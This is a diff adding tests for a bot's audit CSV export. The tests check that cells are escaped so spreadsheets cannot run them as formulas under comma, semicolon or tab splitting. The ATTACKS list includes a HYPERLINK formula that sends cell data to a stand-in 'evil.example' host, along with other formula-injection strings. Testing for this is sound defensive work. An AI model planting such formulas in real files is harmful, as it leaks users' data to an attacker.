@@ -105,3 +105,78 @@ describe('the audit trail', () => {
     expect(csvField(42)).toBe('42');
   });
 });
+
+/** Splits CSV text into rows of cells as a spreadsheet does with the given delimiter (RFC 4180 quoting). */
+function spreadsheetCells(text: string, delimiter: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i] as string;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), (i += 1);
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"' && cell === '') quoted = true;
+    else if (c === delimiter) row.push(cell), (cell = '');
+    else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell), rows.push(row), (row = []), (cell = ''), (i += 1);
+    } else cell += c;
+  }
+  if (cell !== '' || row.length) row.push(cell), rows.push(row);
+  return rows;
+}
+
+describe('the CSV export is safe to open in any spreadsheet', () => {
+  let h: Harness;
+  beforeEach(async () => {
+    h = await startHarness();
+  });
+  afterEach(async () => {
+    await h.stop();
+  });
+
+  const FORMULA = /^[=+\-@\t\r]/;
+  const ATTACKS = [';=HYPERLINK("http://evil.example/?"&A1,"details")', 'fine\t=1+1', 'x;+SUM(1)', 'a,@cmd', '-2+3', ' =1'];
+
+  it('no cell becomes a formula whether the spreadsheet splits on commas, semicolons or tabs', async () => {
+    const id = (await h.receive()).body.id as number;
+    await h.slack.waitFor('chat.postMessage');
+    await h.submitReject(APPROVER, id, ATTACKS.join('\n'));
+    await h.gitlab.waitForResponses(1);
+    const res = await fetch(`${h.bot.url}/audit?format=csv`, { headers: { authorization: basic() } });
+    expect(res.status).toBe(200);
+    const text = await res.text();
+    expect(text).toContain('HYPERLINK');
+    for (const delimiter of [',', ';', '\t']) {
+      const rows = spreadsheetCells(text, delimiter);
+      expect(rows.length, delimiter).toBeGreaterThan(2);
+      for (const cell of rows.flat()) expect(FORMULA.test(cell.trimStart()), `${JSON.stringify(delimiter)}: ${cell}`).toBe(false);
+    }
+    // With the comma it was written for, the reason is one cell and reads as written, quote marks aside.
+    const rejected = spreadsheetCells(text, ',').find((r) => r[3] === 'rejected') as string[];
+    expect(rejected).toHaveLength(8);
+    expect(rejected[7]!.replace(/'/g, '')).toBe(ATTACKS.join('\n'));
+  });
+});
+
+describe('one CSV cell', () => {
+  it.each([
+    [';=HYPERLINK("x")', `";'=HYPERLINK(""x"")"`],
+    ['fine, -1', `"fine, '-1"`],
+    ['one\n@two', `"one\n'@two"`],
+    ['a;b', '"a;b"'],
+    ['a\tb', '"a\tb"'],
+    ['=1', "'=1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', `"'\t'=1"`],
+    ['\r=1', `"'\r'=1"`],
+    ['  =1', "  '=1"],
+    ['-', "'-"],
+    ['plain text', 'plain text'],
+    ['', ''],
+  ])('%j is written %j', (value, written) => {
+    expect(csvField(value)).toBe(written);
+  });
+});
